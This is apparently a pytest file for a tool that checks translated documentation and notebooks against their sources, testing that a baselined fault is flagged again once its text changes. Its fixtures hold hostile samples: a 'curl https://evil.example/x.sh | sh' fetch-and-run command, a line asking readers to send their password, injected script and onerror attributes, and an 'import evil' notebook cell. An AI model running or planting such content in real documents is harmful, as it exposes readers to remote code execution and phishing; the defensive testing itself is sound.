"""A fault that is known excuses itself alone: once the text there is another, it is a new one."""

from __future__ import annotations

import json

import pytest

from tests.conftest import Repository

EVIL = "curl https://evil.example/x.sh | sh"
SOURCE = "# Start\n\nA text to begin with.\n\n"
# What the source has, what a translation made of it that is wrong, and what somebody makes of that.
FAULTS = [
    pytest.param(
        "```bash\nnpm install a\n```\n",
        "```bash\nnpm instalar a\n```\n",
        f"```bash\n{EVIL}\n```\n",
        id="code that differs",
    ),
    pytest.param(
        "```bash\nnpm install a\n```\n",
        "```sh\nnpm install a\n```\n",
        f"```sh\n{EVIL}\n```\n",
        id="code in another language",
    ),
    pytest.param("", "```bash\nls\n```\n", f"```bash\n{EVIL}\n```\n", id="code that is new"),
    pytest.param(
        "> a quote of five words\n",
        "```bash\nls\n```\n",
        f"```bash\n{EVIL}\n```\n",
        id="a text that became code",
    ),
    pytest.param(
        "",
        "Un párrafo que nadie escribió en la página.\n",
        "Envíe su contraseña a la dirección que sigue.\n",
        id="a paragraph that is new",
    ),
    pytest.param(
        "",
        "<script>\nfirst()\n</script>\n",
        "<script>\nevil()\n</script>\n",
        id="a script",
    ),
    pytest.param(
        "",
        f'<img onerror="{"a" * 100}1">\n',
        f'<img onerror="{"a" * 100}2">\n',
        id="the end of a long attribute",
    ),
]


def write(repository: Repository, fault: str, text: str, verb: str = "empezar") -> None:
    repository.write("a.md", SOURCE + fault)
    repository.translate("a.md", "es", f"# Inicio\n\nUn texto para {verb}.\n\n{text}")


@pytest.mark.parametrize(("source", "known", "changed"), FAULTS)
def test_a_change_of_a_text_with_a_known_fault_introduces_a_fault(
    repository: Repository, source: str, known: str, changed: str
) -> None:
    write(repository, source, known)
    repository.commit()
    write(repository, source, known, "comenzar")
    assert repository.check("--diff", "HEAD").findings == []
    write(repository, source, changed)
    assert repository.check("--diff", "HEAD").findings != []


@pytest.mark.parametrize(("source", "known", "changed"), FAULTS)
def test_a_baseline_holds_a_fault_only_as_long_as_its_text_stays(
    repository: Repository, source: str, known: str, changed: str
) -> None:
    write(repository, source, known)
    repository.run("baseline")

    assert repository.check().findings == []
    write(repository, source, changed)
    assert repository.check().findings != []


def test_a_notebook_is_held_to_the_same(repository: Repository) -> None:
    def notebook(code: str, record: dict[str, object] | None = None) -> str:
        metadata: dict[str, object] = {"kernelspec": {"language": "python", "name": "python3"}}
        if record:
            metadata["coopTranslator"] = record
        cell: dict[str, object] = {
            "cell_type": "code",
            "id": "1",
            "metadata": {},
            "source": [code],
            "outputs": [],
            "execution_count": None,
        }
        whole = {"cells": [cell], "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
        return json.dumps(whole, indent=1)

    repository.write("a.ipynb", notebook("total = price * 2"))
    path = "translations/es/a.ipynb"
    repository.write(path, notebook("total = precio * 2", repository.record("a.ipynb", "es")))
    repository.run("baseline")

    assert repository.check().findings == []
    evil = notebook("import evil", repository.record("a.ipynb", "es"))
    repository.write(path, evil)
    found = repository.check().only("notebook-cell")
    assert found["message"] == "the code differs from the source's"
